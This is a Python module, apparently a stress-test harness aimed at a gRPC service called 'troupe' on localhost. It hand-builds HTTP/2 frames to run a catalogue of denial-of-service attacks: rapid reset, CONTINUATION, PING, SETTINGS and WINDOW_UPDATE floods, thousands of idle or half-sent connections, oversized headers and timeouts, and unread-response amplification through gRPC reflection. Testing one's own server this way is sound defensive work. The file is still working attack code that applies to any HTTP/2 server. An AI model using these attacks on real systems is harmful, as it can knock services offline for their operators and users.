"""Attacks over HTTP/2 and gRPC for attack.py. Frames are written by hand: no client sends such."""
import select
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
RANK = "/troupe.v1.Troupe/Rank"
JSON = ((":method", "POST"), (":scheme", "http"), (":path", "/v1/rank"), (":authority", "localhost"))
CALL = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", RANK),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(size):
    """A length of HPACK with a prefix of seven bits."""
    if size < 127:
        return bytes([size])
    out, size = b"\x7f", size - 127
    while size >= 128:
        out, size = out + bytes([size % 128 + 128]), size // 128
    return out + bytes([size])


def fields(pairs):
    """Literal fields, which are not indexed."""
    return b"".join(
        b"\0" + length(len(name)) + name.encode() + length(len(value)) + value.encode()
        for name, value in pairs
    )


def head(stream, pairs, flags=0):
    return frame(HEADERS, END_HEADERS | flags, stream, fields(pairs))


def begun():
    return PREFACE + frame(SETTINGS, 0, 0)


def dropped(link):
    """Reads and drops what the server has sent; False once it has closed the connection."""
    try:
        readable = select.poll()  # takes more descriptors than select()
        readable.register(link, select.POLLIN)
        while readable.poll(0):
            if not link.recv(65536):
                return False
        return True
    except OSError:
        return False


def connections(count, first, part, reads=True, at_a_time=8192):
    """Returns an attack with `count` connections, which are opened again when the server closes them.

    Each sends `first(streams)`, then `part(streams)` again and again, joined to pieces of about
    `at_a_time` bytes. `streams` yields the numbers of its streams.
    """

    def attack(wire, end):
        links = {}

        def leave(link):
            del links[link]
            link.close()

        while time.monotonic() < end:
            while len(links) < count and time.monotonic() < end:
                link = wire.connect()
                if link is None:
                    break
                streams = iter(range(1, 2**31, 2))
                links[link] = streams
                if not wire.send(link, begun() + first(streams)):
                    leave(link)
            for link, streams in list(links.items()):
                piece = b""
                while len(piece) < at_a_time:
                    more = part(streams) if part else b""
                    if not more:
                        break
                    piece += more
                is_open = not reads or dropped(link)
                if not is_open or (piece and not wire.send(link, piece)):
                    leave(link)
                if time.monotonic() >= end:
                    break
            if not part:
                time.sleep(0.02)
        for link in list(links):
            leave(link)

    return attack


def attacks(key=""):
    """Returns the attacks by name. `key`: of the attacker, if it has one."""
    mine = (("authorization", f"Bearer {key}"),) if key else ()
    call_head, json_head = (*CALL, *mine), (*JSON, *mine)
    lines_head = (*json_head, ("content-type", "application/x-ndjson"))
    much = (("y", "y" * 7_600),)
    nothing = lambda _: b""
    open_call = lambda streams: head(next(streams), call_head)
    stuck = lambda streams: b"".join(head(next(streams), (*call_head, *much)) for _ in range(64))

    def rapid_reset(pairs, body=b""):
        def part(streams):
            stream = next(streams)
            sent = frame(DATA, END_STREAM, stream, body) if body else b""
            flags = 0 if body else END_STREAM
            return head(stream, pairs, flags) + sent + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))

        return part

    def made_reset(streams):
        stream = next(streams)
        return head(stream, (*call_head, ("content-length", "1"))) + frame(DATA, 0, stream, b"xx")

    def bad_timeout(streams):
        return head(next(streams), (*call_head, ("grpc-timeout", "x" * 7_000)), END_STREAM)

    def half_body(streams):
        return head(next(streams), json_head) + 3 * frame(DATA, 0, 1, b" " * 16_000)

    def half_message(streams):
        stream = next(streams)
        prefix = b"\0" + struct.pack(">I", 1_000_000)
        return head(stream, call_head) + frame(DATA, 0, stream, prefix + b"x" * 16_000)

    def unread(streams):
        """Reflection's answers are larger than its requests, and are not read."""
        symbol = b"\x22\x10troupe.v1.Troupe"
        message = b"\0" + struct.pack(">I", len(symbol)) + symbol
        path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
        pairs = [(name, path if name == ":path" else value) for name, value in call_head]
        return head(next(streams), pairs) + frame(DATA, 0, 1, message * 100)

    def unread_lines(streams):
        """Lines of many results, which the attacker lets the server send only in part."""
        row = b'{"history":["camp-0002"],"candidates":[' + b",".join([b'"camp-0001"'] * 300) + b"]}\n"
        stream = next(streams)
        return head(stream, lines_head) + frame(DATA, 0, stream, row * 4)

    call = b"\0" + struct.pack(">I", 9) + b"\x0a\x01a\x12\x01b\x12\x01c"
    return {
        "h2_idle": connections(2_000, nothing, None),
        "h2_metadata": connections(300, stuck, None),
        "h2_pending": connections(2_000, open_call, None),
        "h2_half_body": connections(200, half_body, None),
        "h2_half_message": connections(200, half_message, None),
        "h2_bulk_unread": connections(200, nothing, unread_lines, reads=False),
        "h2_rapid_reset": connections(4, nothing, rapid_reset(json_head)),
        "h2_rapid_reset_call": connections(4, nothing, rapid_reset(call_head, call)),
        "h2_made_reset": connections(4, nothing, made_reset),
        "h2_ping": connections(4, nothing, lambda _: frame(PING, 0, 0, b"12345678")),
        "h2_ping_unread": connections(4, nothing, lambda _: frame(PING, 0, 0, b"12345678"), reads=False),
        "h2_settings": connections(4, nothing, lambda _: frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff")),
        "h2_continuation": connections(
            4,
            lambda streams: frame(HEADERS, 0, next(streams), fields(call_head)),
            lambda _: frame(CONTINUATION, 0, 1, fields((("y", "z"),))),
        ),
        "h2_empty_data": connections(4, open_call, lambda _: frame(DATA, 0, 1)),
        "h2_window_update": connections(
            4, nothing, lambda _: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
        ),
        "h2_priority": connections(
            4, nothing, lambda streams: frame(PRIORITY, 0, next(streams), b"\0\0\0\0\x10")
        ),
        "grpc_timeout": connections(4, nothing, bad_timeout),
        "grpc_unread": connections(200, unread, None, reads=False),
    }
